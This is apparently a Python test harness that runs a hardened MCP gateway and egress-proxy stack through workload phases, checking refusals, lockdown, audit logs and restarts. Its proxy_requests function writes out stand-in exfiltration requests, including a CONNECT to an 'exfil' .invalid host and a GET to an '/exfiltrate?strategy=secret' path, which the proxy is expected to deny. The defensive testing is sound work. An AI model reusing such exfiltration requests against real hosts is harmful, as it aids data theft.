"""Drives the test stack through the workload phases the recording and the verification share."""

from __future__ import annotations

import http.client
import json
import os
import re
import shutil
import signal
import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from gateway.policy import Profile, listed
from gateway.settings import GatewaySettings
from gateway.tools import TOOL_KINDS
from stack.seccomp import SeccompError, admin, alerts, log
from stack.seccomp.host import HOST_ENVIRONMENT, docker, verify_audit_log
from stack.seccomp.services import (
    FALCO_RESPONDER,
    GATEWAY,
    GATEWAY_RELAY,
    OTEL_COLLECTOR,
    QC_MCP,
    SERVICES,
)
from stack.seccomp.stage import (
    CANARY_CONTAINER,
    CANARY_PORT,
    CLIENT_CONTAINER,
    GATEWAY_CLIENT_CONTAINER,
    OUTSIDE_CLIENT_CONTAINER,
    RATE_LIMITED_TOOL,
    RECORD_GATEWAY_PORT,
    TELEMETRY_CLIENT_CONTAINER,
    WORKLOAD_UID,
    Running,
    Stage,
    container_state,
    network,
)
from stack.seccomp.workload import PROBES, workload_source
from stack.settings import Settings
from stack.testca import API_HOST
from stack.testdata import TEST_GATEWAY_TOKEN

PROXY_ADDRESS = ("egress-proxy", "3128")
# How the gateway's clients reach it: (the network their container is on, the MCP URL). Through
# the relay as every client does (the host's published port leads there too), or directly, as
# the relay itself does.
GATEWAY_ROUTES: dict[str, tuple[str, str]] = {
    "relay": ("front", f"http://{GATEWAY_RELAY.name}:8080/mcp"),
    "direct": ("door", f"http://{GATEWAY.name}:8080/mcp"),
}
GATEWAY_REFUSAL = "qcstack gateway: "  # how the gateway's own refusals start (PREFIX)
BROKERAGE_CANARY = "qcrec-canary-brokerage-password"  # in the workload's live-trading arguments


def preflight(settings: Settings) -> None:
    if os.geteuid() != 0:
        raise SeccompError("run as root: bpftrace and the secret files' owner need it")
    for tool in ("docker", "bpftrace", "openssl"):
        if shutil.which(tool, path=HOST_ENVIRONMENT["PATH"]) is None:
            raise SeccompError(f"{tool} is not installed (scripts/install-docker installs it)")
    for name in SERVICES:
        image = settings.image(name)
        if docker("image", "inspect", image, check=False).returncode != 0:
            raise SeccompError(f"image {image} is missing: run `bin/qcstack build` first")


def container_pid(container: str) -> int:
    """The host pid of the container's first process (docker-init)."""
    return int(docker("inspect", "-f", "{{.State.Pid}}", container).stdout.strip())


def cgroup2_mount() -> Path:
    """Where the cgroup v2 hierarchy is mounted (/sys/fs/cgroup, or .../unified on a hybrid)."""
    for line in Path("/proc/mounts").read_text(encoding="utf-8").splitlines():
        fields = line.split()
        if fields[2] == "cgroup2":
            return Path(fields[1])
    raise SeccompError("no cgroup2 hierarchy is mounted: bpftrace's `cgroup` would not tell apart")


def cgroup_id(container: str) -> int:
    """The cgroup v2 id of the container (bpftrace's `cgroup`): its directory's inode number."""
    for line in Path(f"/proc/{container_pid(container)}/cgroup").read_text().splitlines():
        if line.startswith("0::"):
            return (cgroup2_mount() / line.removeprefix("0::/")).stat().st_ino
    raise SeccompError(f"{container} is in no cgroup v2")


def namespace_members(container: str) -> list[int]:
    """The host pids of every process in the container's pid namespace."""
    namespace = os.readlink(f"/proc/{container_pid(container)}/ns/pid")
    members = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and os.readlink(entry / "ns" / "pid") == namespace:
                members.append(int(entry.name))
        except OSError:
            continue
    return sorted(members)


def wait_for_healthchecks(container: str, count: int, timeout: float = 60) -> int:
    """Waits until Docker has run `count` healthchecks (each a docker exec)."""
    deadline = time.monotonic() + timeout
    seen = 0
    while time.monotonic() < deadline:
        health = json.loads(docker("inspect", "-f", "{{json .State.Health}}", container).stdout)
        seen = len((health or {}).get("Log") or [])
        if seen >= count:
            return seen
        time.sleep(2)
    raise SeccompError(f"only {seen} healthchecks ran in {timeout:.0f}s")


def run_client(stage: Stage, *, expect_success: bool) -> dict[str, Any]:
    result = docker(
        "run", "--rm", "--name", CLIENT_CONTAINER, "--network", network("mcp"),
        "--user", f"{WORKLOAD_UID}:{WORKLOAD_UID}", "--read-only", "--cap-drop", "ALL",
        "--security-opt", "no-new-privileges", "--entrypoint", "/usr/bin/python3", stage.image,
        "-c", workload_source("mcp_client"), f"http://{QC_MCP.name}:8000/mcp",
        timeout=600,
    )  # fmt: skip
    report: dict[str, Any] = json.loads(result.stdout.strip().splitlines()[-1])
    sessions = [report["first"], *report["parallel"]]
    for session in sessions:
        if len(session["tools"]) != 64:
            raise SeccompError(f"expected 64 tools, got {len(session['tools'])}")
    calls = {name: status for name, status, _ in report["first"]["calls"]}
    for name, status, text in report["first"]["calls"]:
        log(f"  {name}: {status}: {text[:110]}")
    log(f"client: 64 tools x {len(sessions)} sessions; first session calls: {calls}")
    if calls["read_mcp_server_version"] != "ok":
        raise SeccompError(f"read_mcp_server_version failed: {report['first']['calls']}")
    if expect_success and calls["read_account"] != "ok":
        raise SeccompError(f"read_account through the proxy and API double failed: {report}")
    if not expect_success and calls["read_account"] == "ok":
        raise SeccompError("read_account succeeded while the upstream was down")
    return report


def gateway_profiles(tools: set[str]) -> list[str]:
    """The gateway profiles that list exactly these tools (paper and live list the same)."""
    return [str(p) for p in Profile if {t for t in TOOL_KINDS if listed(t, p)} == tools]


def check_gateway_report(
    report: dict[str, Any], *, upstream_up: bool, lockdown: bool
) -> tuple[list[str], list[str]]:
    """(failures, the profiles the listed tools fit) of one gateway client run. The listed tools
    must be one profile's (the record stack runs live; paper lists the same tools)."""
    failures = []
    refusals = report["refusals"]
    for case in ("no token", "wrong token"):
        if refusals[case][0] != 401:
            failures.append(f"POST /mcp with {case}: {refusals[case]}, not 401")
    status, body = refusals["healthz"]
    if status != 200 or json.loads(body).get("lockdown") is not lockdown:
        failures.append(f"GET /healthz: {refusals['healthz']}, not 200 with lockdown {lockdown}")
    sessions = [report["first"], *report.get("parallel", [])]
    listed_tools = {tuple(session["tools"]) for session in sessions}
    profiles = gateway_profiles(set(report["first"]["tools"]))
    if len(listed_tools) != 1 or not profiles:
        failures.append(f"the gateway lists tools no profile lists: {sorted(listed_tools)}")
    calls: dict[str, list[tuple[str, str]]] = {}
    for name, status, text in report["first"]["calls"]:
        calls.setdefault(name, []).append((status, text))
        if BROKERAGE_CANARY in text:
            failures.append(f"{name}'s answer shows the brokerage password: {text}")

    def expect(name: str, ok: bool, words: str = "") -> None:
        for status, text in calls[name]:
            if (status == "ok") != ok or words not in text:
                failures.append(f"{name}: {status}: {text[:200]}; expected {'ok' if ok else words}")

    expect("read_account", upstream_up)
    if lockdown:
        expect("create_project", False, GATEWAY_REFUSAL + "the gateway is in lockdown")
        expect("create_live_algorithm", False, GATEWAY_REFUSAL + "the gateway is in lockdown")
    else:
        expect("read_mcp_server_version", True)
        expect("no_such_tool", False, GATEWAY_REFUSAL)
        # refused before it is held: brokerage secrets come from the gateway's store (GW-04)
        expect("create_live_algorithm", False, "brokerage settings come from the gateway's store")
        status, text = calls[RATE_LIMITED_TOOL][-1]
        if status == "ok" or GATEWAY_REFUSAL + f"rate limit of {RATE_LIMITED_TOOL}" not in text:
            failures.append(f"{RATE_LIMITED_TOOL}'s second call: {status}: {text[:200]}")
    return failures, profiles


def run_gateway_client(
    stage: Stage, route: str, *, upstream_up: bool, lockdown: bool = False
) -> dict[str, Any]:
    """MCP sessions with the gateway, through the relay or directly (GATEWAY_ROUTES); raises
    unless the gateway behaved as its listed tools say it should."""
    network_name, url = GATEWAY_ROUTES[route]
    result = docker(
        "run", "--rm", "--name", GATEWAY_CLIENT_CONTAINER, "--network", network(network_name),
        "--user", f"{WORKLOAD_UID}:{WORKLOAD_UID}", "--read-only", "--cap-drop", "ALL",
        "--security-opt", "no-new-privileges", "--entrypoint", "/usr/bin/python3", stage.image,
        "-c", workload_source("gateway_client"), url, TEST_GATEWAY_TOKEN,
        "lockdown" if lockdown else "open",
        timeout=600,
    )  # fmt: skip
    report: dict[str, Any] = json.loads(result.stdout.strip().splitlines()[-1])
    for name, status, text in report["first"]["calls"]:
        log(f"  {name}: {status}: {text[:110]}")
    failures, profiles = check_gateway_report(report, upstream_up=upstream_up, lockdown=lockdown)
    sessions = 1 + len(report.get("parallel", []))
    log(
        f"gateway client ({route}{', lockdown' if lockdown else ''}): "
        f"{len(report['first']['tools'])} tools (profile {' or '.join(profiles) or '?'}) x "
        f"{sessions} sessions; refusals {report['refusals']}"
    )
    if failures:
        raise SeccompError(f"the gateway ({route}) misbehaved: {failures}")
    return report


def gateway_admin(running: Running, action: str) -> dict[str, Any]:
    """gateway_admin.py in the gateway (docker exec, its uid): engage, lift or audit."""
    done = docker(
        "exec", running.gateway, "/usr/bin/python3", "-c", workload_source("gateway_admin"), action,
        timeout=60,
    )  # fmt: skip
    answer: dict[str, Any] = json.loads(done.stdout.strip().splitlines()[-1])
    return answer


def check_audit(running: Running, more_than: int = 0) -> int:
    """The audit log's chain holds and has grown past `more_than` entries, read by
    gateway_admin.py and by the gateway's own verifier (`python3 -m gateway.audit verify`, as
    `qcstack audit verify` runs it); returns its length."""
    audit = gateway_admin(running, "audit")
    log(f"gateway audit log: {audit}")
    if not audit["ok"] or audit["entries"] <= more_than:
        raise SeccompError(f"the audit log is broken or did not grow past {more_than}: {audit}")
    entries, said = verify_audit_log(running.gateway, "gateway")
    if entries != audit["entries"]:
        raise SeccompError(f"python3 -m gateway.audit verify: {said}; the tooling read {audit}")
    return entries


def max_request_bytes(stage: Stage) -> int:
    """The largest MCP request the record stack's gateway accepts (its settings, or the
    default)."""
    default = GatewaySettings.model_fields["max_request_bytes"].default
    return int(stage.settings.gateway.get("max_request_bytes", default))


def exercise_admin_side(stage: Stage, running: Running) -> list[str]:
    """Held deployments decided on the admin side (admin.deploy_with_approvals, with a session
    through the relay while the responder's lockdown holds), then the requests the gateway must
    refuse; returns the failures of the latter."""
    admin.deploy_with_approvals(
        stage,
        running,
        lambda: run_gateway_client(stage, "relay", upstream_up=True, lockdown=True),
    )
    return admin.send_refused_requests(max_request_bytes(stage))


def check_gateway_log(text: str) -> list[str]:
    """The access log has a line for a refused request, and never the query string."""
    failures = []
    if "POST /mcp 413 from" not in text:
        failures.append("the gateway's access log has no line for the refused POST /mcp (413)")
    if admin.QUERY_CANARY in text:
        failures.append("the gateway's log shows a query string (with a token in it)")
    return failures


def exercise_lockdown(stage: Stage, running: Running) -> None:
    """Lockdown engaged through its flag file (as the kill switch does), a session meanwhile:
    reads pass, a write and a live-trading call are refused; then lifted."""
    log(f"gateway lockdown: {gateway_admin(running, 'engage')}")
    run_gateway_client(stage, "relay", upstream_up=True, lockdown=True)
    log(f"gateway lockdown lifted: {gateway_admin(running, 'lift')}")


def published_port(*, gateway_up: bool) -> None:
    """From the host, the way MCP clients come: 127.0.0.1:RECORD_GATEWAY_PORT, the relay's
    published port. With the gateway up: /healthz answers 200, /mcp without the token 401. With
    it down: the relay cannot reach it and closes the connection."""
    answers: list[int | str] = []
    for method, path in (("GET", "/healthz"), ("POST", "/mcp")):
        connection = http.client.HTTPConnection("127.0.0.1", RECORD_GATEWAY_PORT, timeout=10)
        try:
            connection.request(method, path, body=b"{}" if method == "POST" else None)
            answers.append(connection.getresponse().status)
        except (OSError, http.client.HTTPException) as error:
            answers.append(type(error).__name__)
        finally:
            connection.close()
    log(f"host 127.0.0.1:{RECORD_GATEWAY_PORT} GET /healthz, POST /mcp: {answers}")
    if gateway_up and answers != [200, 401]:
        raise SeccompError(f"the published port answered {answers}, not [200, 401]")
    if not gateway_up and any(isinstance(answer, int) for answer in answers):
        raise SeccompError(f"the published port answered {answers} with the gateway down")


def restart_gateway(stage: Stage, running: Running, workload: Workload) -> None:
    """The gateway stopped (clean exit) while the relay stays up and is asked for it, and a
    Critical alert comes to the responder, whose lockdown calls fail and are retried; then the
    gateway started again on its volume (the audit log reopened, its chain read back), the
    responder's lockdown getting through at last (lifted by the admin); then the relay stopped
    and started again. Their new cgroups are recorded too."""
    stage.stop_service(running, GATEWAY.name)
    for name in (GATEWAY_RELAY.name, FALCO_RESPONDER.name):
        if container_state(running.containers[name]).get("Running") is not True:
            raise SeccompError(f"stopping the gateway stopped {name} too")
    published_port(gateway_up=False)
    workload.failures += alerts.alert_while_gateway_down()
    stage.start_again(running, GATEWAY.name)
    alerts.wait_for_lockdown("the alert that came while the gateway was down", timeout=60)
    stage.stop_service(running, GATEWAY_RELAY.name)
    stage.start_again(running, GATEWAY_RELAY.name)
    workload.started(running)


def restart_responder(stage: Stage, running: Running, workload: Workload) -> None:
    """The responder stopped (clean exit, SIGTERM through docker-init) and started again on its
    volume: its audit log reopened and its chain read back. Its new cgroup is recorded too."""
    stage.stop_service(running, FALCO_RESPONDER.name)
    stage.start_again(running, FALCO_RESPONDER.name)
    workload.started(running)


def exercise_collector(stage: Stage, running: Running, workload: Workload) -> list[str]:
    """The collector's own workload besides qc-mcp's spans: an OTLP/JSON span with canary
    secrets from a client on the telemetry network; then the collector stopped (clean exit) while
    qc-mcp's tool calls go on (their spans cannot be sent), and started again on its volume."""
    done = docker(
        "run", "--rm", "--name", TELEMETRY_CLIENT_CONTAINER, "--network", network("telemetry"),
        "--user", f"{WORKLOAD_UID}:{WORKLOAD_UID}", "--read-only", "--cap-drop", "ALL",
        "--security-opt", "no-new-privileges", "--entrypoint", "/usr/bin/python3", stage.image,
        "-c", workload_source("otlp_span"), f"http://{OTEL_COLLECTOR.name}:4318/v1/traces",
        BROKERAGE_CANARY,
        timeout=120,
    )  # fmt: skip
    status = json.loads(done.stdout.strip().splitlines()[-1])["status"]
    log(f"collector: OTLP/JSON canary span answered {status}")
    failures = [] if status == 200 else [f"the collector answered the OTLP/JSON span {status}"]
    stage.stop_service(running, OTEL_COLLECTOR.name)
    run_client(stage, expect_success=True)
    failures += alerts.post(alerts.COLLECTOR_DOWN)  # its span cannot be sent
    stage.start_again(running, OTEL_COLLECTOR.name)
    workload.started(running)
    return failures


def run_probes(container: str) -> dict[str, str]:
    results = {}
    for name in PROBES:
        source = workload_source(f"probes/{name}")
        done = docker("exec", container, "/usr/bin/python3", "-c", source, check=False, timeout=120)
        if done.returncode != 0:
            raise SeccompError(
                f"probe {name} failed ({done.returncode}):\n{done.stdout}{done.stderr}"
            )
        results[name] = done.stdout.strip()
        log(f"probe {name}: {results[name][:300]}")
    return results


def connect(target: str) -> str:
    return f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n"


def proxy_requests(canary_address: str) -> list[tuple[str, str, int]]:
    """(what, raw request, the status squid must answer) sent from qc-mcp. Every target is the
    API double's name, a canary of ours, or a .invalid name: squid denies them all without a
    lookup (dstdomain -n, port, src), and the one allowed tunnel goes to the API double."""
    canary = f"{CANARY_CONTAINER}:{CANARY_PORT}"
    return [
        ("the allowed tunnel", connect(f"{API_HOST}:443"), 200),
        ("CONNECT to another name", connect(canary), 403),
        ("CONNECT to a .invalid name", connect("exfil.qcrec.invalid:443"), 403),
        ("CONNECT to an IP literal", connect(f"{canary_address}:{CANARY_PORT}"), 403),
        ("CONNECT to another port", connect(f"{API_HOST}:8443"), 403),
        (
            "plain GET http://",
            f"GET http://{canary}/exfiltrate?strategy=secret HTTP/1.1\r\nHost: {canary}\r\n\r\n",
            403,
        ),
        ("a malformed request (refused before the rules)", "NOT AN HTTP REQUEST\r\n\r\n", 400),
    ]


def check_statuses(
    source: str, expected: list[tuple[str, str, int]], statuses: list[str]
) -> list[str]:
    failures = []
    for (what, _, status), line in zip(expected, statuses, strict=True):
        ok = re.match(rf"HTTP/1\.[01] {status} ", line) is not None
        log(f"proxy, {what} from {source}: {line!r}{'' if ok else f' (expected {status})'}")
        if not ok:
            failures.append(f"proxy answered {what} from {source} with {line!r}, not {status}")
    return failures


def exercise_proxy(stage: Stage, running: Running) -> list[str]:
    """The proxy's own workload besides the tunnels of the tool calls: requests it must deny,
    from qc-mcp (its one client) and from a container outside its subnet. Returns failures."""
    canary_address = stage.start_canary()
    expected = proxy_requests(canary_address)
    done = docker(
        "exec", running.qc_mcp, "/usr/bin/python3", "-c", workload_source("proxy_requests"),
        *PROXY_ADDRESS, json.dumps([request for _, request, _ in expected]),
        timeout=120,
    )  # fmt: skip
    failures = check_statuses("qc-mcp", expected, json.loads(done.stdout.strip().splitlines()[-1]))
    outside = [
        ("CONNECT to the allowed name from outside its subnet", connect(f"{API_HOST}:443"), 403)
    ]
    done = docker(
        "run", "--rm", "--name", OUTSIDE_CLIENT_CONTAINER, "--network", network("outside"),
        "--user", f"{WORKLOAD_UID}:{WORKLOAD_UID}", "--read-only", "--cap-drop", "ALL",
        "--security-opt", "no-new-privileges", "--entrypoint", "/usr/bin/python3", stage.image,
        "-c", workload_source("proxy_requests"), *PROXY_ADDRESS,
        json.dumps([request for _, request, _ in outside]),
        timeout=120,
    )  # fmt: skip
    statuses = json.loads(done.stdout.strip().splitlines()[-1])
    return failures + check_statuses("the outside network", outside, statuses)


def stop_and_continue(running: Running) -> None:
    """SIGSTOP then SIGCONT to every process of every service, as a debugger or a freeze would.

    A timed futex wait interrupted this way resumes through restart_syscall, which the kernel
    makes the process call: the docker exec'd sleepers in the Python services (qc-mcp, the
    gateway, the responder) must still finish their waits. Each waits in a thread of its own,
    which then ends (the `exit` syscall, as the servers' worker threads do when their pools
    shrink). Python's join returns before the ended thread's last syscall, so the sleeper
    lingers a moment before the process exits.
    """
    command = (
        "import threading; t = threading.Thread(target=threading.Event().wait, args=(3.5,)); "
        "t.start(); t.join(); threading.Event().wait(0.5); print('slept')"
    )
    sleepers = [
        subprocess.Popen(
            ["docker", "exec", container, "/usr/bin/python3", "-c", command],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=HOST_ENVIRONMENT,
        )
        for container in (running.qc_mcp, running.gateway, running.responder)
    ]
    time.sleep(1.5)
    members = [pid for name in SERVICES for pid in namespace_members(running.containers[name])]
    for pid in members:
        os.kill(pid, signal.SIGSTOP)
    time.sleep(1)
    for pid in members:
        os.kill(pid, signal.SIGCONT)
    for sleeper in sleepers:
        out, err = sleeper.communicate(timeout=60)
        if sleeper.returncode != 0 or out.strip() != "slept":
            raise SeccompError(f"sleep interrupted by SIGSTOP/SIGCONT failed: {out}{err}")
    log(f"SIGSTOP/SIGCONT of {len(members)} processes: the interrupted sleeps resumed")


@dataclass
class Workload:
    """What the recording and the verification need from a run of the workload."""

    cgroups: dict[str, list[int]] = field(default_factory=lambda: {name: [] for name in SERVICES})
    logs: list[dict[str, str]] = field(default_factory=list)  # per phase: service -> its log
    failures: list[str] = field(default_factory=list)

    def started(self, running: Running) -> None:
        """Notes the services' cgroups (a container that stopped and started has a new one)."""
        for name in SERVICES:
            group = cgroup_id(running.containers[name])
            if group not in self.cgroups[name]:
                self.cgroups[name].append(group)
        log(f"cgroup ids: {self.cgroups}")


def drive_workload(
    stage: Stage, phase_two_extra: Callable[[Running], list[str]] | None = None
) -> Workload:
    """Both phases of the workload on the test stack."""
    workload = Workload()
    log("phase 1: upstream down (the API double stopped): tool calls fail at the proxy")
    running = stage.up()
    workload.started(running)
    stage.stop_upstream()
    run_client(stage, expect_success=False)
    run_gateway_client(stage, "relay", upstream_up=False)
    admin.deploy_with_upstream_down(stage)
    for name in SERVICES:
        wait_for_healthchecks(running.containers[name], 3)
    workload.logs.append(stage.stop(running))

    log("phase 2: the API double up: tool calls through the proxy, probes, proxy denials")
    running = stage.up()
    workload.started(running)
    run_client(stage, expect_success=True)
    for route in GATEWAY_ROUTES:
        run_gateway_client(stage, route, upstream_up=True)
    workload.failures += exercise_admin_side(stage, running)
    published_port(gateway_up=True)
    workload.failures += alerts.exercise(stage)
    alerted = alerts.check_audit(running)
    audited = check_audit(running)
    run_probes(running.qc_mcp)
    workload.failures += exercise_proxy(stage, running)
    workload.failures += exercise_collector(stage, running, workload)
    if phase_two_extra is not None:
        workload.failures += phase_two_extra(running)
    exercise_lockdown(stage, running)
    log("docker pause/unpause of every service (as a kill switch might): sleeping calls resume")
    for name in SERVICES:
        docker("pause", running.containers[name])
    time.sleep(2)
    for name in SERVICES:
        docker("unpause", running.containers[name])
    stop_and_continue(running)
    restart_gateway(stage, running, workload)
    restart_responder(stage, running, workload)
    workload.failures += alerts.post(alerts.AFTER_RESTART)
    run_client(stage, expect_success=True)
    run_gateway_client(stage, "relay", upstream_up=True)
    check_audit(running, more_than=audited)
    alerts.check_audit(running, more_than=alerted)
    for name in SERVICES:
        wait_for_healthchecks(running.containers[name], 3)
    workload.logs.append(stage.stop(running))
    workload.failures += check_gateway_log(workload.logs[-1][GATEWAY.name])
    return workload
